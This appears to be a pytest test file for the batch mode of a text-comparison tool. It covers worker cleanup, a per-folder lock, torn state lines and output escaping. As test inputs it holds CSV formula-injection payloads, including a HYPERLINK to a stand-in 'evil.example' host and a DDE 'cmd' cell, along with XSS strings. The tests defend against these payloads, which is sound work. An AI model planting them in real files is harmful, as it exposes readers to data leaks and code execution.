"""Batch guarantees (docs/batch.md): workers die with their parent, every CSV cell guarded against
formulas, one batch at a time per output folder, a torn state line survived."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from qualcheck.batch import LOCK_FILE, STATE_FILE, StateWriter, folder_lock, pairs_from_dirs, read_manifest, run_batch
from qualcheck.csvsafe import FORMULA_START, cell

QC = [sys.executable, "-m", "qualcheck.cli"]
ENV = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}

REF = ("The city council approved the new budget on Tuesday.\n"
       "The plan adds money for schools and road repairs.\n"
       "Critics said the tax increase would hurt small businesses.\n")
CAND = ("On Tuesday the city council passed the new budget.\n"
        "The plan gives more money to schools and to repairing roads.\n")
REF2 = "Xi Jinping met Vladimir Putin in Moscow on Monday.\nThey spoke about trade and the war in Ukraine.\n"
CAND2 = "Xi Jinping met Vladimir Putin in Moscow on Monday.\nThey talked about trade and the war in Ukraine.\n"


def _two_pairs(root: Path) -> tuple[Path, Path]:
    ref, cand = root / "ref", root / "cand"
    ref.mkdir(parents=True)
    cand.mkdir(parents=True)
    (ref / "budget.txt").write_text(REF, encoding="utf-8")
    (cand / "budget.txt").write_text(CAND, encoding="utf-8")
    (ref / "moscow.txt").write_text(REF2, encoding="utf-8")
    (cand / "moscow.txt").write_text(CAND2, encoding="utf-8")
    return ref, cand


def _many_pairs(root: Path, n: int = 30) -> tuple[Path, Path]:
    """``n`` small pairs: a batch that runs for a while even on a fast machine."""
    ref, cand = _two_pairs(root)
    for k in range(n - 2):
        (ref / f"p{k:02d}.txt").write_text(REF.replace("Tuesday", f"day {k}"), encoding="utf-8")
        (cand / f"p{k:02d}.txt").write_text(CAND.replace("Tuesday", f"day {k}"), encoding="utf-8")
    return ref, cand


def _children(pid: int) -> dict[int, str]:
    """Live (not zombie) child processes of ``pid``: their command lines."""
    out = {}
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            stat = (d / "stat").read_text()
            fields = stat[stat.rindex(")") + 2:].split()
            if int(fields[1]) == pid and fields[0] != "Z":
                out[int(d.name)] = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, ValueError):
            continue
    return out


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat[stat.rindex(")") + 2:].split()[0] != "Z"  # a zombie holds no memory


# --------------------------------------------------------------------------- workers die with their parent


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_workers_exit_when_the_batch_is_killed(tmp_path):
    """kill -9 of a running `qualcheck batch`: its two workers and the resource tracker are gone within
    seconds. Fails on main: they stayed alive (about 0.7 GB each) until killed by hand."""
    ref, cand = _many_pairs(tmp_path / "in")
    p = subprocess.Popen([*QC, "batch", "--ref-dir", str(ref), "--cand-dir", str(cand), "--out", str(tmp_path / "out"),
                          "-j", "2", "--chunk-size", "1", "-q", "--cache-dir", str(tmp_path / "cache")],
                         env=ENV, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 180
        workers: dict[int, str] = {}
        kids: dict[int, str] = {}
        while time.time() < deadline and p.poll() is None:
            kids = _children(p.pid)
            workers = {k: c for k, c in kids.items() if "spawn_main" in c}
            if len(workers) >= 2:
                break
            time.sleep(0.2)
        assert len(workers) >= 2, f"no workers started: {kids}"
        time.sleep(1.0)  # they are in their start-up (importing, loading the model)
        everything = _children(p.pid)  # the workers and multiprocessing's resource tracker
        assert any("resource_tracker" in c for c in everything.values()), everything
        os.kill(p.pid, signal.SIGKILL)
        p.wait(timeout=30)
        deadline = time.time() + 10
        while time.time() < deadline and any(_alive(k) for k in everything):
            time.sleep(0.2)
        left = {k: c for k, c in everything.items() if _alive(k)}
        assert not left, f"still running after the batch was killed: {left}"
    finally:
        if p.poll() is None:
            p.kill()
        for k in _children(p.pid):
            os.kill(k, signal.SIGKILL)


# --------------------------------------------------------------------------- CSV formula guard

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
           "\tTAB=1", "\rCR=1", "=1+2"]


def _csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START), (value, row)


def test_summary_csv_guards_ids_from_the_manifest_and_file_names(tmp_path):
    """Fails on main: the ids (and error texts that start with a file name) landed unquoted."""
    manifest = tmp_path / "m.jsonl"
    manifest.write_text("".join(json.dumps({"id": h, "reference": "nowhere.txt", "candidate": "nowhere.txt"}) + "\n"
                                for h in HOSTILE), encoding="utf-8")
    res = run_batch(read_manifest(manifest), tmp_path / "out1", workers=1)  # error rows: no model runs
    rows = _csv(res.summary_csv)
    _assert_no_formula(rows)
    ids = {r[rows[0].index("id")] for r in rows[1:]}
    assert ids == {cell(h.strip()) for h in HOSTILE}  # ids are stripped; "=...", "@...", "+...", "-..." quoted
    assert "'" + HOSTILE[0] in ids and "'@SUM(A1:A9)" in ids
    # file names: a pair of folders whose files are named like formulas (one side only: error rows)
    ref, cand = tmp_path / "ref", tmp_path / "cand"
    ref.mkdir()
    cand.mkdir()
    for name in ("=1+2.txt", "@SUM(A1).txt", "+cmd.txt", "-x.txt", "\tx.txt"):
        (ref / name).write_text(REF, encoding="utf-8")
    res = run_batch(pairs_from_dirs(ref, cand), tmp_path / "out2", workers=1)
    rows = _csv(res.summary_csv)
    _assert_no_formula(rows)
    col = rows[0].index("id")
    assert sorted(r[col] for r in rows[1:]) == sorted(["'=1+2.txt", "'@SUM(A1).txt", "'+cmd.txt", "'-x.txt", "'\tx.txt"])
    assert all(r[rows[0].index("error")].startswith("'") for r in rows[1:])  # "=1+2.txt: no candidate ..."


class _Cells(HTMLParser):
    """The tags of a page, and the text and title of each cell of its table body."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.rows: list[list[dict]] = []
        self._cell = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
        elif tag == "td":
            self._cell = {"title": dict(attrs).get("title"), "text": ""}
            self.rows[-1].append(self._cell)

    def handle_endtag(self, tag):
        if tag == "td":
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell["text"] += data


def test_summary_html_shows_hostile_ids_and_file_names_as_text(tmp_path):
    """The summary page is a template with autoescape: an id, a file name or an error message that
    holds markup is shown as text, never run. Fails if the template lets a value through unescaped."""
    hostile = ["<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "a'b&c<b>d</b>"]
    manifest = tmp_path / "m.jsonl"
    manifest.write_text("".join(json.dumps({"id": h, "reference": f"{h}.txt", "candidate": "nowhere.txt"}) + "\n"
                                for h in hostile), encoding="utf-8")
    ref, cand = tmp_path / "ref", tmp_path / "cand"
    ref.mkdir()
    cand.mkdir()
    (ref / '<img src=x onerror=alert(3)> "q".txt').write_text(REF, encoding="utf-8")  # one side only: error row
    for out, pairs in (("out1", read_manifest(manifest)), ("out2", pairs_from_dirs(ref, cand))):
        res = run_batch(pairs, tmp_path / out, workers=1)  # error rows: no model runs
        page = res.summary_html.read_text(encoding="utf-8")
        parsed = _Cells()
        parsed.feed(page)
        assert [t for t, _ in parsed.tags if t in ("script", "img", "b")] == []
        assert not any(k.startswith("on") for _, attrs in parsed.tags for k in attrs)
        body = [r for r in parsed.rows if r]  # the header row has <th> cells only
        assert len(body) == len(pairs)
        for pair, cells in zip(sorted(pairs, key=lambda p: p.id), sorted(body, key=lambda r: r[1]["text"])):
            assert cells[1]["text"] == pair.id  # rank, then id: shown exactly, as text
            assert cells[1]["title"] == f"reference: {pair.reference}\ncandidate: {pair.candidate}"
            assert pair.id in cells[-1]["text"] or str(pair.reference) in cells[-1]["text"]  # the error message


def test_findings_csv_guards_every_cell_with_the_same_function(seed_report):
    """findings.csv guarded only its four text columns; now every cell goes through csvsafe.cell (the
    summary's guard too). Fails on main: a category or check name planted as a formula went out raw."""
    import copy

    from qualcheck.report import csvfmt

    report = copy.deepcopy(seed_report)
    f = report.findings[0]
    f.category, f.check, f.message, f.cand_text = HOSTILE[0], HOSTILE[1], HOSTILE[4], HOSTILE[5]
    rows = _csv_text(csvfmt.render(report))
    _assert_no_formula(rows)
    head, first = rows[0], rows[1]
    assert first[head.index("category")] == cell(HOSTILE[0]) == "'" + HOSTILE[0]
    assert first[head.index("check")] == "'" + HOSTILE[1]
    assert first[head.index("message")] == "'" + HOSTILE[4]
    assert first[head.index("cand_text")] == "'" + HOSTILE[5]
    assert cell(-0.5) == -0.5 and cell(None) == "" and cell(True) == "true"  # numbers stay numbers


def _csv_text(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------- one batch per output folder


def test_a_second_batch_on_the_same_folder_exits_2_naming_the_first(tmp_path):
    """Two real processes. Fails on main: both ran and interleaved their state lines."""
    ref, cand = _many_pairs(tmp_path / "in")
    out = tmp_path / "out"
    args = ["batch", "--ref-dir", str(ref), "--cand-dir", str(cand), "--out", str(out), "-j", "1", "-q",
            "--cache-dir", str(tmp_path / "cache")]
    first = subprocess.Popen([*QC, *args], env=ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.time() + 120
        while time.time() < deadline and first.poll() is None:
            lock = out / LOCK_FILE
            if lock.exists() and lock.read_text().strip() == str(first.pid):
                break
            time.sleep(0.1)
        assert first.poll() is None, "the first batch ended before the test could start the second"
        second = subprocess.run([*QC, *args], env=ENV, capture_output=True, text=True, timeout=300)
        assert first.poll() is None  # still running: the second one did not wait for it
        assert second.returncode == 2, second.stderr
        lines = second.stderr.strip().splitlines()
        assert len(lines) == 1 and f"process {first.pid}" in lines[0] and str(out) in lines[0], lines
        assert not (out / "summary.csv").exists() or first.poll() is not None  # the second wrote nothing
    finally:
        first.kill()
        first.wait(timeout=30)
    with folder_lock(out):  # the holder died: the lock is free (the kernel dropped it with the process)
        assert (out / LOCK_FILE).read_text().strip() == str(os.getpid())


# --------------------------------------------------------------------------- torn state line


def test_a_torn_state_line_is_skipped_reported_and_not_glued_to(tmp_path, encoder, capsys):
    """A run killed mid-write leaves the state file's last line torn. Fails on main: the next run's
    record was appended to the torn line, so that pair was never recorded as done and a third run
    checked it again."""
    from qualcheck.embed import Encoder

    ref, cand = _two_pairs(tmp_path / "in")
    pairs = pairs_from_dirs(ref, cand)
    enc = Encoder(cache_dir=tmp_path / "cache")
    enc._backend = encoder.load()  # the session's model
    out = tmp_path / "out"

    def run():
        return run_batch(pairs, out, workers=1, cache_dir=tmp_path / "cache", encoder=enc, formats=("json",))

    assert run().checked == 2
    state = out / STATE_FILE
    data = state.read_bytes()
    assert data.count(b"\n") == 2
    state.write_bytes(data[:-40])  # the last record cut off mid-line
    capsys.readouterr()
    second = run()
    err = capsys.readouterr().err
    assert (second.checked, second.resumed) == (1, 1)  # the torn pair again, the other from the state
    assert "torn line" in err and str(state) in err and len(err.strip().splitlines()) == 1
    lines = state.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2 and all(json.loads(ln)["row"]["status"] == "ok" for ln in lines)
    third = run()
    assert (third.checked, third.resumed) == (0, 2)
    assert "torn" not in capsys.readouterr().err


def test_the_state_writer_starts_a_new_line_after_a_torn_one(tmp_path):
    path = tmp_path / STATE_FILE
    path.write_text('{"row": {"id": "a", "status": "ok", "key": "k1"}}\n{"row": {"id": "b", "sta', encoding="utf-8")
    w = StateWriter(path)
    w.append({"row": {"id": "c", "status": "ok", "key": "k3"}})
    w.close()
    lines = path.read_text(encoding="utf-8").split("\n")
    assert lines[1] == '{"row": {"id": "b", "sta' and json.loads(lines[2])["row"]["id"] == "c" and lines[3] == ""
